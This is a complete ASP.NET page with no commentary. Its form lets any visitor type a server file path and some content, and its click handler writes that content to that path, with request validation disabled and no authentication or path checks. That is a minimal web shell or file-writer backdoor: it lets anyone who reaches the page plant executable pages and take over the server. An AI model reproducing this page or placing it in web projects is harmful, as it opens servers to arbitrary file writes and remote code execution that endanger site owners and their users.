<%@ Page Language="C#" validateRequest="false" %>
<script runat="server">
void Save_Click(object sender, EventArgs e) {
    System.IO.FileInfo target = new System.IO.FileInfo(txtPath.Text);
    System.IO.StreamWriter sw = target.CreateText();
    sw.Write(txtBody.Text);
    sw.Close();
    lblDone.Text = "saved";
}
</script>
<form runat="server"><asp:TextBox ID="txtPath" runat="server" /><asp:TextBox ID="txtBody" TextMode="MultiLine" runat="server" />
<asp:Button ID="btnSave" OnClick="Save_Click" runat="server" /><asp:Label ID="lblDone" runat="server" /></form>
